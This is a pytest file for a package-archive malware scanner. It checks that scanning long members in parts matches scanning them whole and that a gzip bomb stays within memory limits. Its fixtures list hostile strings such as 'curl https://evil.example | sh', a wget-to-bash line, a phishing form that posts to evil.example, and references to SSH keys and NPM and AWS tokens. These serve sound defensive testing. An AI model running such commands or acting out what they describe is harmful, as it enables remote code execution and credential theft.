"""Members that come in parts: the same findings as in one piece, whatever the parts' sizes."""

from __future__ import annotations

import gzip
import io
import json
import random
import tarfile
import tracemalloc
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from tarsift.config import ScanConfig
from tarsift.functions.entropy import bits_per_byte, byte_entropy
from tarsift.operators.content_rules import scan_files
from tarsift.operators.long_files import found_in_parts, part_features
from tarsift.operators.user_rules import RuleSpec, apply_user_rules
from tarsift.plans.scan import scan_archives
from tarsift.sources import archives as ar
from tarsift.sources.unpack import PART_SCHEMA, cut, part_maker
from tests.archive_fixtures import manifest, tgz

CODE = [
    b"fetch('https://evil.example/a?b=1')", b'var u = "http://ok.github.com/x"', b"https://evil.example:81/b http://[::1/",
    b"HTTPS.get(x)", b"axios  \n (", b"node_fetch(", b"undici", b"discord.com/api/webhooks/1", b"https://x.ngrok.io/abc",
    b"pastebin.com", b"fs.writeFile (a)", b"fs.mkdir(", b"/home/u/.npmrc", b"~/.ssh/id_rsa", b"process.env.CI", b"is-docker",
    b"process.env.NPM_TOKEN", b"process.env.AWS_SECRET_KEY", b"child_process . execSync('x')", b"child_process.exec(",
    b"eval (x)", b"_eval(x)", b"new  Function ('y')", b"prebuild-install", b"__webpack_require__", b"function f(){}",
    b"\\x68\\x65 \\x6c\\x6c\\x6f", b"String.fromCharCode(a ^ 3)", b"var _0xabcd12 = ['a']", b"while (!![]) {",
    "ünïcödé ελληνικά κείμενο 日本".encode(), b"\xff\xfe\xc3(", b"\xef\xbf\xbd", b"A" * 130 + b"==", b"QUJD" * 60, b"\r\n\r\n",
]
PAGES = [
    b"<form action='https://evil.example/go'>", b'<FORM method="post" action="/local">', b"<input type='password' name=x>",
    b'<input name="user">', b"<button class=b>Verify", b"I'm not a robot", b"<iframe src='https://evil.example/f'>",
    b"<script src='https://unpkg.com/a.js'></script>", b'<link rel=s href="https://cdn.jsdelivr.net/b.css">',
]
OTHERS = [
    b"from flask import Flask", b"http.server", b"socket.socket(", b"listen(5)", b"requests.get('x')", b"urllib.request",
    b"curl https://evil.example | sh", b"wget http://evil.example/x -O - | bash",
]
SUFFIXES = [".js", ".mjs", ".json", ".ts", ".html", ".php", ".py", ".sh", ".ps1", ""]


def text(rng: random.Random, pool: list[bytes], size: int, dense: bool) -> bytes:
    out, held = [], 0
    while held < size:
        piece = rng.choice(pool) if rng.random() < (0.5 if dense else 0.03) else bytes(rng.choices(b"abc xyz;()\n\t", k=40))
        if rng.random() < 0.004:
            piece = b"y" * rng.randint(3900, 4400)
        out.append(piece + rng.choice([b" ", b"\n", b";\n", b"'"]))
        held += len(out[-1])
    return b"".join(out)


def files(seed: int) -> list[tuple]:
    rng = random.Random(seed)
    out = []
    for k, suffix in enumerate(SUFFIXES * (1 + seed % 2)):
        pool = CODE + PAGES * (suffix in (".html", ".php")) * 3 + OTHERS * (suffix in (".py", ".sh", ".ps1")) * 3
        # Files without the words that make flags, so that these are not always there.
        pool = rng.sample(pool, len(pool) * 2 // 3)
        content = text(rng, pool, rng.choice([9_000, 40_000]), k < len(SUFFIXES))
        content = rng.choice([b"", b"\0asm", b"MZ", b"\x7fELF"]) + content
        out.append(("p", "1", f"dir/f{k}{suffix}", content))
    return out


def plain(rows) -> list[tuple]:
    return sorted((r["rule"], r["severity"], r["file_path"], json.dumps(json.loads(r["details"]), sort_keys=True)) for r in rows)


@pytest.mark.parametrize(("seed", "part", "config"), [
    (1, 700, ScanConfig()),
    (2, 5_000, ScanConfig(big_js_bytes=20_000, high_entropy=3.0, max_blobs=2, magic_in_all_files=True)),
    (3, 17_000, ScanConfig(allow_domains=())),
])
def test_parts_find_what_whole_files_do(spark, seed, part, config):
    given = files(seed)
    spec = RuleSpec("own", "low", r"x[yz]+;", suffixes=(".js", ".py"), limit=3)
    whole = spark.createDataFrame(given, "name string, version string, path string, content binary")
    want = plain(scan_files(whole, config).collect())
    rng = random.Random(seed)
    parts = [
        ("a", k, path, len(content), *piece)
        for k, (_, _, path, content) in enumerate(given)
        for piece in cut(io.BytesIO(content), rng.randint(part // 2, part), 6_000)
    ]
    assert len(parts) > 2 * len(given)
    rng.shuffle(parts)
    frame = spark.createDataFrame(parts, PART_SCHEMA).repartition(8)
    found = found_in_parts(part_features(frame, config, [spec]), config, [spec])
    names = {k: path for k, (_, _, path, _) in enumerate(given)}
    got = [
        (f["rule"], f["severity"], names[r["ordinal"]], json.dumps(json.loads(f["details"]), sort_keys=True))
        for r in found.collect()
        for f in r["found"]
    ]
    own = sorted((r["path"], r["match_count"], tuple(r["samples"])) for r in apply_user_rules(whole, [spec]).collect())
    assert sorted(g for g in got if g[0] != "own") == want
    found_own = [(g[2], json.loads(g[3])) for g in got if g[0] == "own"]
    assert sorted((path, d["match_count"], tuple(d["samples"])) for path, d in found_own) == own
    assert len({rule for rule, *_ in want}) >= 18


@pytest.mark.parametrize("part", [1, 7, 100, 5000])
def test_cut_is_whole(part):
    rng = random.Random(part)
    content = text(rng, CODE, 3000, True) + "日本語".encode() * 50
    joined, lines = b"", 0
    for k, at, before, core, lines, line_at, chars, entropy, shown in cut(io.BytesIO(content), part, 50):
        assert content[at : at + len(shown)] == shown and at + before == len(joined)
        assert lines == content[:at].count(b"\n") and line_at == content[:at].rfind(b"\n") + 1
        joined += shown[before : before + core]
        assert (entropy is not None) == (joined == content)
    assert joined == content
    assert entropy == pytest.approx(bits_per_byte(content))


def test_scan_of_an_archive_with_long_members(spark, work):
    """As in one piece: a scan that sees members of more than 5,000 bytes in parts."""
    given = files(5)
    members = [("package/package.json", manifest()), *[(f"package/{path}", content) for _, _, path, content in given]]
    members += [("package/link.js", "sym", "dir/f0.js"), ("package/dir/f1.mjs", b"eval(1)")]
    archives = spark.createDataFrame([("x/plain-tool@1.0.0.tgz", tgz(members))], "path string, content binary")
    whole = scan_archives(ar.extract_members(archives), folder=work + "/a")
    named = ar.extract_members(archives, long_bytes=5_000)
    assert named.filter("long").count() == len(given)
    parts = scan_archives(named, folder=work + "/b", archives=archives, long_bytes=5_000)
    assert plain(parts.findings.collect()) == plain(whole.findings.collect())
    assert parts.scores.collect() == whole.scores.collect()


class Zeros(io.RawIOBase):
    """A file of one byte value that is nowhere held."""

    def __init__(self, size: int):
        self.left = size

    def read(self, n: int = -1) -> bytes:
        n = self.left if n < 0 else min(n, self.left)
        self.left -= n
        return b"a" * n


def bomb(size: int) -> bytes:
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=6) as zipped:
        with tarfile.open(fileobj=zipped, mode="w|") as tar:
            body = manifest()
            info = tarfile.TarInfo("package/package.json")
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
            info = tarfile.TarInfo("package/bomb.js")
            info.size = size
            tar.addfile(info, Zeros(size))
    return packed.getvalue()


def test_a_bomb_is_read_in_bounded_memory():
    """A member of 1 GB in an archive of 1 MB: held are a few parts."""
    content = bomb(1 << 30)
    assert len(content) < 4 << 20
    maker = part_maker(None, 64 << 20, 16 << 20, 256 << 10)
    tracemalloc.start()
    cores = sum(int(batch["core"].sum()) for batch in maker(iter([pd.DataFrame({"path": ["b@1.tgz"], "content": [content]})])))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert cores == 1 << 30 and peak < 400 << 20


def test_the_scan_of_a_bomb_ends(spark, work):
    folder = Path(work, "in")
    folder.mkdir()
    (folder / "bomb@1.0.0.tgz").write_bytes(bomb(100 << 20))
    result = scan_archives(ar.read_archives(spark, str(folder)), folder=work + "/c")
    found = {r["rule"]: json.loads(r["details"]) for r in result.findings.collect()}
    assert set(found) == {"large_js", "minified_long_lines", "big_base64_blob"}
    assert found["large_js"]["bytes"] == 100 << 20


def test_entropy_of_batches(spark):
    rng = np.random.default_rng(3)
    texts = [None, b"", b"a", b"ab" * 9, *[rng.integers(0, 256, n, dtype=np.uint8).tobytes() for n in (3, 5_000_000, 70_000)]]
    frame = spark.createDataFrame([(k, t) for k, t in enumerate(texts)], "k int, t binary").repartition(2)
    got = {r["k"]: r["e"] for r in frame.select("k", byte_entropy("t").alias("e")).collect()}
    for k, t in enumerate(texts):
        assert (got[k] is None) if t is None else got[k] == pytest.approx(bits_per_byte(t))
